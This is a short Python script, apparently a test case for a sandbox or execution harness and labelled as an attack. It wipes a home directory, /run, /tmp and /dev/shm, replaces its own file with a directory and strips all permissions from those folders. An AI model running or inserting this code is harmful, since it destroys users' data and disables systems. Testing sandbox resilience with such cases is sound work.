# attack: the program deletes itself, its folder's contents and its kernel's files, then locks the folder
# limit: 10
# ends: done or failed
import glob, os, shutil
for path in glob.glob("/home/me/*") + glob.glob("/home/me/.*") + glob.glob("/run/*") + glob.glob("/tmp/*") + glob.glob("/tmp/.*") + glob.glob("/dev/shm/*"):
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
    except OSError as e:
        print(path, e.strerror)
os.mkdir("/home/me/main.py")
for folder in ("/tmp", "/run", "/dev/shm", "/home/me"):
    os.chmod(folder, 0)
print("done")
